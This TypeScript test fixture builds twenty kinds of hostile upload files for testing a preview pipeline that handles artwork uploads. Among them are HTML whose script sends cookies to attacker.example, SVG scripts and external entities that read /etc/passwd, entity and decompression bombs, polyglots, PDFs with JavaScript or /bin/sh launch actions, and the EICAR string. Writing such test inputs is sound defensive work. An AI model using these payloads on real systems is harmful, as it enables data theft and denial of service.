import { createHash } from "node:crypto"
import { crc32, deflateSync, gzipSync } from "node:zlib"
import type { ArtworkProblem } from "../../src/contracts"
import { pdf } from "./pdf"

/** What may become of a hostile file: previews without anything active, or a reason why there are none. */
export type Outcome = "previews" | ArtworkProblem

export type HostileFile = { kind: string; name: string; bytes: Buffer; allowed: readonly Outcome[] }

type Kind = {
  kind: string
  allowed: readonly Outcome[]
  /** @param n counts the variants of the kind from 0 */
  make: (n: number) => { name: string; bytes: Buffer | string }
}

/** Bytes that look random and are the same in each run. */
const noise = (seed: number, length: number): Buffer => {
  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, block) =>
    createHash("sha256").update(`${seed}/${block}`).digest(),
  )
  return Buffer.concat(blocks).subarray(0, length)
}

const chunk = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, "latin1"), data])
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, checksum])
}

const PNG_SIGNATURE = Buffer.from("89504e470d0a1a0a", "hex")

/** A PNG in one shade of gray, which compresses a thousandfold. Node 20.15 has `crc32`. */
export const grayPng = (width: number, height: number, rows = height): Buffer => {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 0, 0, 0, 0], 8)
  const pixels = deflateSync(Buffer.alloc((width + 1) * rows), { level: 9 })
  return Buffer.concat([PNG_SIGNATURE, chunk("IHDR", header), chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))])
}

const svg = (inner: string, attributes = `width="100" height="100"`, prolog = ""): string =>
  `<?xml version="1.0"?>${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`

const RECT = `<rect width="50" height="50" fill="red"/>`
const HTML =
  "<!doctype html><html><body><script>fetch('https://attacker.example/'+document.cookie)</script></body></html>"
const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

const pick = <T>(list: readonly [T, ...T[]], n: number): T => list[n % list.length] ?? list[0]

const ANY_END: readonly Outcome[] = [
  "previews",
  "broken",
  "too_many_pixels",
  "out_of_memory",
  "timed_out",
  "unsupported",
]

const entities = (levels: number): string => {
  const lines = Array.from({ length: levels }, (_, n) =>
    n === 0 ? `<!ENTITY e0 "lol">` : `<!ENTITY e${n} "${`&e${n - 1};`.repeat(10)}">`,
  )
  return `<!DOCTYPE svg [${lines.join("")}]>`
}

/** Files that attack whoever opens them, in twenty kinds. Everything is made here: no file of an attacker is kept. */
const KINDS: Kind[] = [
  {
    kind: "html named as artwork",
    allowed: ["type_mismatch"],
    make: (n) => ({ name: `logo-${n}.${pick(["pdf", "png", "svg", "jpg"], n)}`, bytes: `${" ".repeat(n)}${HTML}` }),
  },
  {
    kind: "page and document at once",
    allowed: ["type_mismatch", "broken"],
    make: (n) => ({
      name: `both-${n}.pdf`,
      bytes: Buffer.concat([Buffer.from(`<html><script>alert(${n})</script><!--`), pdf(), Buffer.from("-->")]),
    }),
  },
  {
    kind: "picture with a page behind it",
    allowed: ["previews", "broken"],
    make: (n) => ({ name: `polyglot-${n}.png`, bytes: Buffer.concat([grayPng(8 + n, 8), Buffer.from(HTML)]) }),
  },
  {
    kind: "double extension",
    allowed: ["previews", "unsupported"],
    make: (n) => ({
      name: `invoice-${n}.pdf.${pick(["exe", "html", "js", "scr"], n)}`,
      bytes: n % 2 ? grayPng(9, 9) : Buffer.concat([Buffer.from("MZ"), noise(n, 500)]),
    }),
  },
  {
    kind: "program named as artwork",
    allowed: ["type_mismatch"],
    make: (n) => ({
      name: `print-${n}.${pick(["ai", "tiff", "pdf"], n)}`,
      bytes: Buffer.concat([
        Buffer.from(pick(["MZ\x90\0", "\x7fELF\x02\x01", "#!/bin/sh\n"], n), "latin1"),
        noise(n, 600),
      ]),
    }),
  },
  {
    kind: "svg script",
    allowed: ["previews"],
    make: (n) => ({
      name: `script-${n}.svg`,
      bytes: svg(
        pick(
          [
            `<script>fetch("http://127.0.0.1:9/")</script>`,
            `<g onload="alert(1)">${RECT}</g>`,
            `<animate onbegin="x()"/>`,
          ],
          n,
        ) + RECT,
      ),
    }),
  },
  {
    kind: "svg foreign object",
    allowed: ["previews"],
    make: (n) => ({
      name: `foreign-${n}.svg`,
      bytes: svg(
        `<foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd?${n}"/></foreignObject>${RECT}`,
      ),
    }),
  },
  {
    kind: "svg external entity",
    allowed: ["previews", "broken"],
    make: (n) => ({
      name: `entity-${n}.svg`,
      bytes: svg(
        `<text y="20">&x;</text>${RECT}`,
        `width="100" height="100"`,
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "${pick(["file:///etc/passwd", "http://127.0.0.1:9/", "php://filter/resource=/etc/passwd"], n)}">]>`,
      ),
    }),
  },
  {
    kind: "svg remote picture",
    allowed: ["previews"],
    make: (n) => ({
      name: `remote-${n}.svg`,
      bytes: svg(
        `<image width="50" height="50" xlink:href="${pick(["http://127.0.0.1:9/a.png", "file:///etc/hostname", "original", "../../../../etc/hostname"], n)}"/>${RECT}`,
      ),
    }),
  },
  {
    kind: "svg entity bomb",
    allowed: ANY_END,
    make: (n) => ({
      name: `lol-${n}.svg`,
      bytes: svg(`<text y="20">&e${8 + (n % 3)};</text>`, `width="100" height="100"`, entities(9 + (n % 3))),
    }),
  },
  {
    kind: "svg of absurd size",
    allowed: ANY_END,
    make: (n) => ({
      name: `huge-${n}.svg`,
      bytes: svg(
        `<rect x="-10000" width="170000" height="150000" fill="blue"/>`,
        pick(
          [
            `viewBox="-10000 0 170000 150000"`,
            `width="1e9" height="1e9"`,
            `width="99999999mm" height="1mm"`,
            `viewBox="0 0 1e-9 1e9"`,
          ],
          n,
        ),
      ),
    }),
  },
  {
    kind: "svg of nested copies",
    allowed: ANY_END,
    make: (n) => ({
      name: `nested-${n}.svg`,
      bytes: svg(
        `<defs><g id="a0">${RECT}</g>${Array.from({ length: 12 + n }, (_, level) => `<g id="a${level + 1}">${`<use xlink:href="#a${level}" x="1"/>`.repeat(8)}</g>`).join("")}</defs><use xlink:href="#a${12 + n}"/>`,
      ),
    }),
  },
  {
    kind: "packed svg bomb",
    allowed: ANY_END,
    make: (n) => ({
      name: `bomb-${n}.svgz`,
      bytes: gzipSync(Buffer.from(svg(`<!--${" ".repeat((80 + n) * 1024 * 1024)}-->`)), { level: 9 }),
    }),
  },
  {
    kind: "picture bomb",
    allowed: ["too_many_pixels", "out_of_memory", "broken"],
    make: (n) => ({ name: `bomb-${n}.png`, bytes: grayPng(30_000 + n, 30_000, 2_000) }),
  },
  {
    kind: "damaged picture",
    allowed: ["previews", "broken", "type_mismatch", "too_many_pixels"],
    make: (n) => {
      const signatures = [
        "89504e470d0a1a0a",
        "ffd8ffe000104a464946",
        "49492a0008000000",
        "474946383961",
        "524946460000000057454250",
      ] as const
      return {
        name: `damaged-${n}.${pick(["png", "jpg", "tif", "gif", "webp"], n)}`,
        bytes: Buffer.concat([Buffer.from(pick(signatures, n), "hex"), noise(n, 3_000)]),
      }
    },
  },
  {
    kind: "pdf with actions",
    allowed: ["previews"],
    make: (n) => ({
      name: `action-${n}.pdf`,
      bytes: pdf({
        catalog: pick(
          [
            "/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:9/'\\))>>",
            "/OpenAction<</S/Launch/F(/bin/sh)>>",
            "/OpenAction<</S/URI/URI(file:///etc/passwd)>>",
            "/AA<</WC<</S/JavaScript/JS(while\\(true\\){})>>>>",
            "/AcroForm<</XFA(<script>while(true){}</script>)/Fields[]>>",
          ],
          n,
        ),
      }),
    }),
  },
  {
    kind: "encrypted pdf",
    allowed: ["encrypted", "broken"],
    make: (n) => ({
      name: `locked-${n}.pdf`,
      bytes: pdf({
        trailer: `/ID[<${"ab".repeat(16)}><${"ab".repeat(16)}>]/Encrypt<</Filter/${n % 2 ? "Standard" : "Unknown"}/V 2/R 3/Length 128/P -44/O<${noise(n, 32).toString("hex")}>/U<${noise(n + 1, 32).toString("hex")}>>>`,
      }),
    }),
  },
  {
    kind: "broken pdf",
    allowed: ["previews", "broken", "too_many_pages"],
    make: (n) => {
      const whole = pdf({ contents: ["q 1 0 0 rg 0 0 9 9 re f Q", "(".repeat(2_000), "/X Do ".repeat(500)] })
      const cut = Math.floor(whole.length / (2 + (n % 5)))
      return {
        name: `broken-${n}.pdf`,
        bytes:
          n % 2
            ? whole.subarray(0, cut)
            : Buffer.from(whole.toString("latin1").replace("/Count 3", "/Count 2147483647"), "latin1"),
      }
    },
  },
  {
    kind: "pdf bomb",
    allowed: ANY_END,
    make: (n) => ({
      name: `bomb-${n}.pdf`,
      bytes: pdf({
        compressed: true,
        mediaBox: [0, 0, 14_400, 14_400],
        contents: [n % 2 ? Buffer.alloc(300 * 1024 * 1024, "q ") : "/Im Do"],
        resources: "/XObject<</Im 10 0 R>>",
        objects: [
          {
            dictionary: `/Type/XObject/Subtype/Image/Width ${20_000 + n}/Height 20000/ColorSpace/DeviceRGB/BitsPerComponent 8`,
            stream: Buffer.alloc(n % 2 ? 100 : 200 * 1024 * 1024),
          },
        ],
      }),
    }),
  },
  {
    kind: "virus sample and empty shells",
    allowed: ["type_mismatch", "unsupported", "broken"],
    make: (n) => ({
      name: pick([`eicar-${n}.com`, `eicar-${n}.pdf`, `shell-${n}.psd`, `shell-${n}.eps`], n),
      bytes: pick([EICAR, EICAR, `8BPS\0\x01${"\0".repeat(20)}`, "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd)(r) file"], n),
    }),
  },
]

/** @param each how many variants of each kind */
export const hostileFiles = function* (each: number): Generator<HostileFile> {
  for (const { kind, allowed, make } of KINDS)
    for (let n = 0; n < each; n++) {
      const { name, bytes } = make(n)
      yield { kind, allowed, name, bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, "latin1") }
    }
}
